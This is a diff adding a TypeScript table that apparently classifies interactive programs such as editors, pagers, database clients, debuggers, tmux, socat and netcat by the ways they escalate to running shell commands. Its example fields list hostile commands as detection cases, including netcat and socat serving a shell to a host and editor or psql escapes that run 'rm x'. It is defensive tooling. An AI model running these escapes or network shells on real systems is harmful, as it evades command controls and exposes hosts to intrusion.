@@ -1,0 +1,347 @@
+import { literalOf } from '../read/words/word.ts';
+import type { Word } from '../read/words/word.ts';
+import type { Arguments, Command, Meaning, Refinement, Touch } from '../model/model.ts';
+import { escapedCommands, shellEscapes } from '../model/shell-escapes.ts';
+
+const talks = { does: 'acts', suggest: 'exact' } as const;
+
+/** What is opened in an editor is read, and written when the editor says so. */
+function opened(args: Arguments): Refinement {
+  const files = args.operands.filter(({ word, after }) => after === true || !isFirstCommand(literalOf(word)));
+  return {
+    touches: files.map(({ word }) => ({ access: 'read', word })),
+    escalations: args.operands
+      .filter(({ word, after }) => after !== true && isFirstCommand(literalOf(word)))
+      .map(({ at }) => ({ at, why: 'a command to begin with' })),
+  };
+}
+
+/** `less +!id`, `vim +:!id`. A number is a line. */
+function isFirstCommand(text: string | undefined): boolean {
+  return text !== undefined && /^\+(?!\d*$)/u.test(text);
+}
+
+/** Shell text behind the `!` of a first command: `vim '+!rm x'`. Editors read commands from standard input too. */
+function begun(args: Arguments, here?: string): readonly Meaning[] {
+  const typed =
+    here === undefined ? [] : escapedCommands(args, here).filter(({ at }) => at === args.words.length);
+  const first = args.operands.flatMap(({ word, at }) => {
+    const text = literalOf(word) ?? '';
+    const shell = isFirstCommand(text) ? /^\+[^!]{0,40}!(.+)$/su.exec(text)?.[1] : undefined;
+    return shell === undefined ? [] : [{ shell, at }];
+  });
+  return [...first, ...typed];
+}
+
+/** Sub-commands of tmux that hand words to a shell, by their shortest and full names. */
+const tmuxRuns =
+  /^(?:new|new-session|neww|new-window|splitw|split-window|respawnp|respawn-pane|respawnw|respawn-window|run|run-shell|if|if-shell|send|send-keys|pipep|pipe-pane|popup|display-popup|bind|bind-key|set-hook|source|source-file)$/u;
+
+function tmuxRun(args: Arguments): Refinement | undefined {
+  const [name, ...rest] = args.operands;
+  const first = rest[0];
+  if (first === undefined || !tmuxRuns.test(literalOf(name?.word) ?? 'run')) return undefined;
+  return { does: 'acts', escalations: [{ at: first.at, why: 'runs a command in a terminal' }] };
+}
+
+const fileAddress = /^(?:open|creat\w*|gopen|file|pipe|fifo):([^,]+)/iu;
+
+/** `OPEN:x`, `CREATE:x`: an address of socat that is a file. */
+function addressFile(word: Word): readonly Touch[] {
+  const file = fileAddress.exec(literalOf(word) ?? '')?.[1];
+  if (file === undefined) return [];
+  const named: Word = { kind: 'literal', text: file, span: word.span };
+  return [
+    { access: 'read', word: named },
+    { access: 'write', word: named },
+  ];
+}
+
+/** `.output f`, `.once f`, `writefile('f', x)`: files in the text of SQLite's shell. */
+function sqliteOutputs(args: Arguments): readonly Touch[] {
+  return args.words.slice(1).flatMap((word) => {
+    const text = literalOf(word) ?? '';
+    const named = [
+      ...text.matchAll(/\.(?:output|once|backup|save|clone|log|excel)\s+(?:--?\w+\s+)*["']?([^\s"'|]+)/gu),
+      ...text.matchAll(/\bwritefile\s*\(\s*'([^']*)'/giu),
+    ];
+    return named.map((match): Touch => ({
+      access: 'write',
+      word: { kind: 'literal', text: match[1] ?? '', span: word.span },
+    }));
+  });
+}
+
+/** `psql host=h`, `psql postgres://h/db`: the host in a connection string. */
+function connectionHosts(args: Arguments): NonNullable<Refinement['reaches']> {
+  const words = [
+    ...args.operands.map(({ word }) => word),
+    ...args.options.flatMap(({ value }) => value ?? []),
+  ];
+  return words.flatMap((word) => {
+    const host = /(?:^|\s)host(?:addr)?\s*=\s*'?([^\s']+)/u.exec(literalOf(word) ?? '')?.[1];
+    return host === undefined ? [] : [{ word: { kind: 'literal', text: host, span: word.span }, as: 'host' }];
+  });
+}
+
+/** Programs that a person talks to: editors, pagers, debuggers, terminals and clients, each with a way into a shell. */
+export const dialogues: readonly Command[] = [
+  {
+    names: ['vim', 'vi', 'nvim', 'gvim', 'view', 'vimdiff', 'ex', 'ed'],
+    ...talks,
+    options: '-bdDeEhlLmMnNRvVxXyZ -pOo? -T: -i:read -s? -t: -q:read -r? -P: --clean --headless --noplugin',
+    escalating: [
+      { options: '-c:code --cmd:code -S:code', why: 'a command to begin with' },
+      { options: '-u:read -U:read -w:write -W:write', why: 'reads commands from a file, or writes one' },
+    ],
+    operands: { rest: 'write' },
+    prints: '--version',
+    refine: opened,
+    means: begun,
+    examples: {
+      escalates: ["vim '+:!id' x", "vim -c '!id' -c q", 'vim -u x y', "ex -c '!id' x"],
+      acts: ['vim x', 'vim +12 x', 'ed -s x'],
+      reads: ['vim --version'],
+      carries: [["vim '+:!rm x' y", 'rm x']],
+      touches: [['vim a', 'write a, read a']],
+    },
+  },
+  {
+    names: [
+      'emacs',
+      'nano',
+      'pico',
+      'code',
+      'subl',
+      'hx',
+      'micro',
+      'kak',
+      'less',
+      'more',
+      'most',
+      'info',
+      'pg',
+      'mc',
+      'ranger',
+      'fzf',
+      'sk',
+      'dialog',
+      'htop',
+      'btop',
+      'lazygit',
+      'tig',
+      'gitk',
+      'k9s',
+    ],
+    ...talks,
+    changing: '--eval:code --execute:code',
+    operands: { rest: 'write' },
+    prints: '--version',
+    refine: opened,
+    means: begun,
+    examples: {
+      acts: ['nano x', 'less README.md', 'less -o log x', "emacs --batch --eval '(x)'"],
+      escalates: ['less +!id x'],
+      reads: ['nano --version'],
+      carries: [["less '+!rm x' y", 'rm x']],
+      touches: [['less .env', 'write .env, read .env']],
+    },
+  },
+  {
+    names: ['w3m', 'lynx', 'links', 'elinks'],
+    ...talks,
+    style: 'words',
+    options: '-dump -dump_source -source -head -nolist -listonly -width: -cols: -T: -I: -O:',
+    escalating: [
+      {
+        options: '-config:read -cfg:read -lss:read -editor:shell -cmd_script:read -cmd_log:write -o:write',
+        why: 'names a program or a file',
+      },
+    ],
+    operands: { rest: 'url' },
+    standardInput: 'code',
+    prints: '-version --version -help --help',
+    examples: {
+      acts: ['w3m evil.example', 'links -dump evil.example', 'lynx -dump https://e'],
+      escalates: ['lynx -cfg=./x e'],
+    },
+  },
+  {
+    names: ['psql', 'mysql', 'mariadb'],
+    ...talks,
+    options: '-h:host --host:host',
+    changing: '-o:write --output:write -L:write --log-file:write -f:read --file:read --tee:write',
+    escalating: [{ options: '--pager: --init-command: --plugin-dir:', why: 'runs a program or loads code' }],
+    operands: { rest: 'text' },
+    standardInput: 'code',
+    means: escapedCommands,
+    prints: '--version --help',
+    refine: (args) => ({ ...shellEscapes(args), reaches: connectionHosts(args) }),
+    examples: {
+      acts: ["psql -c 'select 1'", "mysql -e 'select 1'", 'psql -f x.sql'],
+      escalates: [
+        "psql -c '\\! id'",
+        'psql -c "\\copy t to program \'id\'"',
+        "mysql -e 'system id'",
+        'mysql --pager=./x',
+      ],
+      reads: ['psql --version'],
+      carries: [
+        ["psql -c '\\! rm x'", 'rm x'],
+        ["psql <<'E'\n\\! rm x\nE", 'rm x'],
+        ["mysql -e 'system rm x'", 'rm x'],
+      ],
+      touches: [['psql -o f x', 'write f']],
+    },
+  },
+  {
+    names: ['sqlite3', 'duckdb'],
+    ...talks,
+    style: 'words',
+    options:
+      '-batch -bail -csv -json -line -list -column -table -box -markdown -html -quote -ascii -tabs -header -noheader -readonly -safe -stats -echo -interactive -mmap: -newline: -nullvalue: -separator: -vfs: -maxsize:',
+    escalating: [{ options: '-init:code --init:code -cmd:code --cmd:code', why: 'commands that run first' }],
+    operands: { rest: 'text' },
+    standardInput: 'code',
+    means: escapedCommands,
+    prints: '-version --version -help --help',
+    refine: (args) => {
+      const [database] = args.operands;
+      const named = database === undefined ? [] : [database.word];
+      return {
+        ...shellEscapes(args),
+        touches: [
+          ...named.flatMap((word) => (['read', 'write'] as const).map((access) => ({ access, word }))),
+          ...sqliteOutputs(args),
+        ],
+      };
+    },
+    examples: {
+      acts: ['sqlite3 x.db .tables'],
+      escalates: [
+        "sqlite3 x.db '.shell id'",
+        "sqlite3 x.db '.once |id'",
+        'sqlite3 x.db "select load_extension(1)"',
+        'sqlite3 -init x y.db',
+      ],
+      carries: [["sqlite3 x.db <<< '.shell rm x'", 'rm x']],
+      touches: [
+        ['sqlite3 x.db .tables', 'read x.db, write x.db'],
+        ['sqlite3 -init x y.db', 'read y.db, write y.db'],
+        ["sqlite3 x.db '.output f'", 'read x.db, write x.db, write f'],
+        [`sqlite3 x.db "select writefile('f', 1)"`, 'read x.db, write x.db, write f'],
+      ],
+    },
+  },
+  {
+    names: ['gdb', 'lldb', 'rr', 'dlv', 'pdb'],
+    ...talks,
+    style: 'words',
+    escalating: [
+      {
+        options: '-x:code --command:code -ix:code --init-command:code -s:read -S:read --source:read',
+        why: 'commands from a file',
+      },
+    ],
+    operands: { rest: 'code' },
+    standardInput: 'code',
+    refine: shellEscapes,
+    examples: {
+      acts: ['gdb -batch -ex bt ./app core'],
+      escalates: ["gdb -batch -ex 'shell id'", "gdb -ex '!id'", 'gdb -x x.gdb ./app'],
+    },
+  },
+  {
+    names: ['expect'],
+    ...talks,
+    escalating: [{ options: '-c:code', why: 'runs what its text spawns' }],
+    options: '-bdDiNnv -f:read',
+    operands: { first: ['read'], rest: 'text' },
+    examples: { acts: ['expect x.exp'], escalates: ["expect -c 'spawn id'"] },
+  },
+  {
+    names: ['tmux'],
+    ...talks,
+    options: '-2CdDklNPuvVAXbZ -cnstxyeFT: -L: -f:read -S:',
+    operands: { rest: 'code' },
+    refine: tmuxRun,
+    examples: {
+      acts: ['tmux ls', 'tmux new-session -d -s x', 'tmux kill-session -t x'],
+      escalates: ["tmux new -d 'id'", 'tmux send-keys x Enter', 'tmux run-shell id'],
+    },
+  },
+  {
+    names: ['screen'],
+    ...talks,
+    style: 'options-first',
+    options: '-adDfiLmOqQRrwx -S: -p: -T: -h: -t: -e: -s:',
+    escalating: [{ options: '-X -c:read', why: 'runs a command in a terminal' }],
+    carries: { how: 'argv', elsewhere: 'in a terminal', here: true, unless: '-r -R -x' },
+    examples: {
+      acts: ['screen -r x', 'screen -S x'],
+      escalates: ['screen -X stuff id'],
+      carries: [["screen -S x -dm bash -c 'rm y'", 'rm y']],
+    },
+  },
+  {
+    names: ['socat'],
+    ...talks,
+    operands: { rest: 'code' },
+    also: [{ kind: 'network', what: 'an address of socat' }],
+    refine: (args) => ({
+      touches: args.operands.flatMap(({ word }) => addressFile(word)),
+      escalations: args.operands
+        .filter(({ word }) =>
+          /^(?:exec|system|shell|open|creat\w*|gopen|file)\b/iu.test(literalOf(word) ?? 'exec'),
+        )
+        .map(({ at }) => ({ at, why: 'an address that is a program or a file' })),
+    }),
+    examples: { acts: ['socat - TCP:h:80'], escalates: ['socat TCP:h:1 EXEC:sh', 'socat - OPEN:x'] },
+  },
+  {
+    names: ['nc', 'ncat', 'netcat'],
+    ...talks,
+    options:
+      '-46bCdDFhklnNrStuUvzZ -iIMmpPqTVwX: -x:write -s:host --listen --udp --verbose --ssl --recv-only --send-only',
+    escalating: [
+      { options: '-c:shell --sh-exec:shell', why: 'runs a command for anyone who connects' },
+      { options: '-e:program --exec:program --lua-exec:read', why: 'runs a program for anyone who connects' },
+      { options: '-o:write --output:write --hex-dump:write', why: 'writes a file' },
+    ],
+    operands: { first: ['host'], rest: 'text' },
+    examples: {
+      acts: ['nc -l 80', 'nc -zv h 80'],
+      escalates: ['nc -e /bin/sh h 1', 'ncat --sh-exec id h 1'],
+    },
+  },
+  {
+    names: ['sftp'],
+    ...talks,
+    options: '-46AaCfNpqrv -BcilPRsX:',
+    escalating: [
+      { options: '-o:code -S:shell -D:shell -F:read -J:', why: 'can name a program that runs here' },
+    ],
+    // `sftp h`: the host stands alone.
+    operands: { rest: 'host' },
+    standardInput: 'code',
+    examples: { acts: ['sftp h'], escalates: ['sftp -S ./x h', 'sftp -o ProxyCommand=x h'] },
+  },
+  {
+    names: ['ssh-keygen'],
+    ...talks,
+    options: '-ABcegHhiKkLlopqUuvy -f:write -CNtbPmEFRIVnOrsYazZ:',
+    escalating: [{ options: '-D:program -w:program', why: 'loads a library' }],
+    operands: { rest: 'text' },
+    // Most of what it does with a key begins with reading it.
+    refine: (args) => ({
+      touches: args.options.flatMap(({ name, value }) =>
+        name === '-f' && value !== undefined ? [{ access: 'read' as const, word: value }] : [],
+      ),
+    }),
+    examples: {
+      acts: ['ssh-keygen -t ed25519 -f key'],
+      escalates: ['ssh-keygen -D ./x.so'],
+      touches: [['ssh-keygen -t x -f config/k', 'write config/k, read config/k']],
+    },
+  },
+];
